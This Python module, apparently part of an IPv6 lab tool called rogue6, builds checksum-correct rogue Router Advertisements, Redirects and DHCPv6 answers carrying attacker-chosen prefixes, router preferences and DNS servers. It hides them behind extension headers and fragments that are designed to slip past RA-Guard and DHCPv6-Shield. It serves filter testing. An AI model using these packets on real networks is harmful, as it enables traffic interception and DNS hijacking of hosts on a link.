"""What an attacker on a link sends: messages of routers and servers, and the forms that hide them.

Router Advertisements and Redirects (RFC 4861) and DHCPv6 answers (RFC 8415) of a machine that is
neither router nor server, behind extension headers and in fragments, as RFC 7113 section 2 and
RFC 7610 section 3 describe them. All is well formed down to the checksums, so that who takes
messages of the kind takes these.
"""

from __future__ import annotations

import secrets
import struct
from collections.abc import Iterable, Sequence
from ipaddress import IPv6Address, IPv6Network
from typing import NamedTuple

from ipv6lab.wire import dhcp6
from ipv6lab.wire.headers import (
    DESTINATION_OPTIONS,
    FRAGMENT,
    HOP_BY_HOP,
    ICMPV6,
    ROUTING,
    UDP,
    checksum,
    ipv6,
    pseudo_header,
)

CLIENT_PORT, SERVER_PORT = 546, 547
ROUTER_ADVERTISEMENT, REDIRECT = 134, 137
PREFERENCES = {"low": 3, "medium": 0, "high": 1}  # RFC 4191 section 2.1
NAMES = {"hbh": HOP_BY_HOP, "do": DESTINATION_OPTIONS, "rh": ROUTING, "frag": FRAGMENT}
SKIP = 0x1E  # an option for experiments (RFC 4727) that who does not know it skips
EXPERIMENTAL = 253  # a routing header's type of which nobody knows more than that it is used up


class Header(NamedTuple):
    """An extension header of so many octets in all."""

    kind: int
    octets: int = 8


class Form(NamedTuple):
    """How a message travels: the headers before it, and where it is cut.

    With a Fragment header among the headers, what stands behind it is cut after `first` octets (a
    multiple of 8), or is the only piece of a packet that is whole (an atomic fragment, RFC 6946).
    """

    headers: tuple[Header, ...] = ()
    first: int | None = None
    last_first: bool = False

    @property
    def options(self) -> str:
        """As one writes it on the command line of rogue6."""
        names = {number: name for name, number in NAMES.items()}
        found = []
        if self.headers:
            chain = (
                names[one.kind] + ("" if one.octets == 8 else f":{one.octets}")
                for one in self.headers
            )
            found.append("--headers " + ",".join(chain))
        if self.first is not None:
            found.append(f"--first {self.first}")
        if self.last_first:
            found.append("--last-first")
        return " ".join(found)


class Upper(NamedTuple):
    """An upper-layer message whose checksum is right, and the addresses that it is right for."""

    source: IPv6Address
    destination: IPv6Address
    protocol: int
    data: bytes

    def packets(self, form: Form, hop_limit: int = 255) -> list[bytes]:
        """The IPv6 packets in which it travels. Raises ValueError for a form that is none."""
        kinds = [one.kind for one in form.headers]
        if FRAGMENT not in kinds:
            chain = _chain(form.headers, self.protocol) + self.data
            return [self._around(_next(form.headers, self.protocol), chain, hop_limit)]
        at = kinds.index(FRAGMENT)
        before, behind = form.headers[:at], form.headers[at + 1 :]
        whole = _chain(behind, self.protocol) + self.data
        first = len(whole) if form.first is None else form.first
        if not 0 < first <= len(whole) or (first % 8 and first < len(whole)):
            raise ValueError(
                f"A first fragment of {first} octets is none: it takes a multiple of 8, "
                f"below {len(whole)}."
            )
        name, following = secrets.randbits(32), _next(behind, self.protocol)
        pieces = [(0, int(first < len(whole)), whole[:first])]
        if first < len(whole):
            pieces.append((first, 0, whole[first:]))
        packets = []
        for offset, more, piece in pieces:
            header = struct.pack("!BxHI", following, offset | more, name)
            chain = _chain(before, FRAGMENT) + header + piece
            packets.append(self._around(_next(before, FRAGMENT), chain, hop_limit))
        return packets[::-1] if form.last_first else packets

    def _around(self, following: int, payload: bytes, hop_limit: int) -> bytes:
        return ipv6(self.source, self.destination, following, payload, hop_limit)


_HBH, _DO, _RH, _FH = (
    Header(kind) for kind in (HOP_BY_HOP, DESTINATION_OPTIONS, ROUTING, FRAGMENT)
)
PLAIN = Form()
# RFC 8200 section 4.1: hosts take headers in any order and number, but for hop-by-hop options.
BEHIND_HEADERS = (
    Form((_HBH,)),
    Form((_DO,)),
    Form((_RH,)),
    Form((_HBH, _DO)),
    Form((_DO, _DO)),
    Form((_RH, _DO)),
    Form((_DO, _RH, _DO)),
    Form((_DO, _HBH)),
    Form((_HBH, *(_DO,) * 8)),
    Form((Header(DESTINATION_OPTIONS, 256),)),
)
# What an attacker can do so that no piece looks like the message (RFC 7113 section 2.2).
IN_FRAGMENTS = (
    Form((_FH,)),
    Form((_HBH, _FH)),
    Form((_DO, _FH, _DO)),
    Form((_FH,), 8),
    Form((_FH,), 8, last_first=True),
    Form((_FH, _DO), 16),
)
# The first piece does not hold the whole chain of headers: hosts must not send such (RFC 7112).
CUT_WITHIN_HEADERS = (
    Form((_FH, _DO), 8),
    Form((_FH, Header(DESTINATION_OPTIONS, 64)), 8),
    Form((_HBH, _FH, _DO, _DO, _DO), 16),
    Form((_FH, _DO), 8, last_first=True),
)


def _next(headers: Sequence[Header], protocol: int) -> int:
    return headers[0].kind if headers else protocol


def _chain(headers: Sequence[Header], protocol: int) -> bytes:
    """The headers, each with the number of what follows it."""
    found = b""
    for at, header in enumerate(headers):
        found += bytes([_next(headers[at + 1 :], protocol)]) + _body(header)
    return found


def _body(header: Header) -> bytes:
    """A header but for its first octet."""
    if header.octets < 8 or header.octets % 8 or header.octets > 2048:
        raise ValueError(f"An extension header has no {header.octets} octets.")
    size = header.octets // 8 - 1
    if header.kind == ROUTING:  # no segment left: nothing to route by (RFC 8200 section 4.4)
        return bytes([size, EXPERIMENTAL, 0]).ljust(header.octets - 1, b"\0")
    body = bytes([size])
    left = header.octets - 2
    while left:
        octets = min(left, 254)  # an even number, so that two are left at least
        body += bytes([SKIP, octets - 2]) + secrets.token_bytes(octets - 2)
        left -= octets
    return body


# Messages


def icmpv6(source: IPv6Address, destination: IPv6Address, message: bytes) -> Upper:
    """An ICMPv6 message, whose checksum field is computed."""
    blank = message[:2] + b"\0\0" + message[4:]
    total = checksum(pseudo_header(source, destination, len(blank), ICMPV6) + blank)
    return Upper(source, destination, ICMPV6, blank[:2] + struct.pack("!H", total) + blank[4:])


def udp(
    source: IPv6Address, destination: IPv6Address, ports: tuple[int, int], data: bytes
) -> Upper:
    """A UDP datagram from the first port to the second."""
    length = 8 + len(data)
    blank = struct.pack("!HHHH", *ports, length, 0) + data
    total = checksum(pseudo_header(source, destination, length, UDP) + blank) or 0xFFFF
    whole = blank[:6] + struct.pack("!H", total) + data
    return Upper(source, destination, UDP, whole)


def advertisement(
    source: IPv6Address,
    destination: IPv6Address,
    *,
    mac: str | None = None,
    lifetime: int = 1800,
    preference: str = "medium",
    prefix: IPv6Network | None = None,
    valid: int = 86400,
    preferred: int = 14400,
    dns: Iterable[IPv6Address] = (),
) -> Upper:
    """A Router Advertisement (RFC 4861 section 4.2) with a nonce option; times in seconds."""
    flags = PREFERENCES[preference] << 3
    message = struct.pack("!BBHBBHII", ROUTER_ADVERTISEMENT, 0, 0, 0, flags, lifetime, 0, 0)
    if mac is not None:
        message += bytes([1, 1]) + bytes.fromhex(mac.replace(":", ""))
    if prefix is not None:
        head = struct.pack("!BBBBIII", 3, 4, prefix.prefixlen, 0xC0, valid, preferred, 0)
        message += head + prefix.network_address.packed
    servers = b"".join(one.packed for one in dns)
    if servers:
        message += struct.pack("!BBHI", 25, 1 + len(servers) // 8, 0, lifetime) + servers
    return icmpv6(source, destination, message + bytes([14, 1]) + secrets.token_bytes(6))


def redirect(
    source: IPv6Address, destination: IPv6Address, *, target: IPv6Address, to: IPv6Address
) -> Upper:
    """A Redirect (RFC 4861 section 4.5): who sends to `to` had better send to `target`."""
    message = struct.pack("!BBHI", REDIRECT, 0, 0, 0) + target.packed + to.packed
    return icmpv6(source, destination, message + bytes([14, 1]) + secrets.token_bytes(6))


def dhcp6_answer(
    source: IPv6Address,
    destination: IPv6Address,
    *,
    mac: str,
    kind: int = dhcp6.REPLY,
    transaction: int | None = None,
    client_id: bytes | None = None,
    dns: Iterable[IPv6Address] = (),
    source_port: int = SERVER_PORT,
) -> Upper:
    """What a DHCPv6 server sends a client: Advertise, Reply or Reconfigure (RFC 8415 §7.3)."""
    options = [dhcp6.option(dhcp6.SERVER_ID, dhcp6.link_layer_duid(mac))]
    options.append(dhcp6.option(dhcp6.CLIENT_ID, client_id or secrets.token_bytes(10)))
    servers = b"".join(one.packed for one in dns)
    if servers:
        options.append(dhcp6.option(dhcp6.DNS_SERVERS, servers))
    number = secrets.randbits(24) if transaction is None else transaction
    data = dhcp6.write(kind, number, options)
    return udp(source, destination, (source_port, CLIENT_PORT), data)
